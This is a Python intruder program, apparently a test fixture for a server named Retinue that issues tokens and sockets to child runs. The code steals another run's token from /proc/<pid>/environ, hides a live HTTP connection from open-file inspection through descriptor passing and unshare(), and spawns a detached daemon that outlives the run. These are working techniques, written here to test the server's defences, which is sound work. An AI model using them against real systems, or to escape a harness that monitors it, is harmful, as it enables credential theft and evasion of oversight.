"""A program of a run that uses stolen tokens: in HTTP requests, and on the server's socket.

    network_intruder.py OUTPUT ORDER

ORDER is JSON: `requests` (each a URL with headers and a body) are sent by this process and by a daemon
without variables; with `hide`, no process has the connection open while the server looks; `token_of` is the
process number of another run's program, whose token is tried on the socket; with `own_token`, only the run's
own is.
Writes what was answered to OUTPUT as JSON. Uses nothing of Retinue.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

TOKEN = "RETINUE_CHILD_TOKEN"
HELLO = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "initialize",
    "params": {
        "protocolVersion": "2025-06-18",
        "capabilities": {},
        "clientInfo": {"name": "intruder", "version": "1"},
    },
}


def send(url: str, headers: dict[str, str], body: str) -> int:
    """Send a POST request and return the status of the answer."""
    request = urllib.request.Request(url, body.encode(), headers, method="POST")  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def send_hidden(url: str, headers: dict[str, str], body: str, hide: str) -> int:
    """Send a POST request on a connection that is in no process's list of open files, and return the status.

    `flight`: the connection is in a message that nobody has received. `thread`: only one thread has it open.
    """
    target = urllib.parse.urlsplit(url)
    connection = socket.create_connection((target.hostname or "", target.port or 80), 20)
    fields = {"Host": target.netloc, "Content-Length": str(len(body)), "Connection": "close", **headers}
    head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
    connection.sendall(f"POST {target.path} HTTP/1.1\r\n{head}".encode())
    if hide == "flight":
        outgoing, incoming = socket.socketpair()
        socket.send_fds(outgoing, [b"x"], [connection.fileno()])
        connection.sendall(f"\r\n{body}".encode())
        connection.close()
        time.sleep(1)
        _, (descriptor,), _, _ = socket.recv_fds(incoming, 1, 1)
        connection = socket.socket(fileno=descriptor)
        return int(connection.recv(100).split()[1])
    answers: list[bytes] = []
    is_alone, is_closed = threading.Event(), threading.Event()

    def use_alone() -> None:
        unshare_files = 0x400
        assert ctypes.CDLL(None).unshare(unshare_files) == 0
        is_alone.set()
        is_closed.wait()
        connection.sendall(f"\r\n{body}".encode())
        answers.append(connection.recv(100))

    thread = threading.Thread(target=use_alone)
    thread.start()
    is_alone.wait()
    os.close(connection.fileno())  # the thread has its own table of open files now
    is_closed.set()
    thread.join()
    return int(answers[0].split()[1])


def connect(token: str) -> str:
    """Connect to the server's socket with this token and return the beginning of the answer."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(os.environ["RETINUE_CHILD_SOCKET"])
        connection.sendall(f"{token}\n{json.dumps(HELLO)}\n".encode())
        try:
            return connection.recv(40).decode()
        except ConnectionError:
            return ""


def write(output: Path, content: Any) -> None:
    draft = output.with_suffix(".draft")
    draft.write_text(json.dumps(content), encoding="utf-8")
    draft.rename(output)


def main(output: Path, order: dict[str, Any]) -> None:
    if requests := order.get("requests"):
        if "daemon" not in sys.argv and os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            argv = [sys.executable, __file__, str(output.with_name("daemon.json")), sys.argv[2], "daemon"]
            os.execve(sys.executable, argv, {})  # noqa: S606
        write(output, [send_hidden(**each) if "hide" in each else send(**each) for each in requests])
    if order.get("own_token"):
        write(output, [connect(os.environ[TOKEN])])
    if pid := order.get("token_of"):
        variables = Path(f"/proc/{pid}/environ").read_text(encoding="utf-8").split("\0")
        stolen = next(each.partition("=")[2] for each in variables if each.startswith(f"{TOKEN}="))
        write(output, [connect(os.environ[TOKEN]), connect(stolen)])


if __name__ == "__main__":
    main(Path(sys.argv[1]), json.loads(sys.argv[2]))
    time.sleep(60)  # the test cancels the run
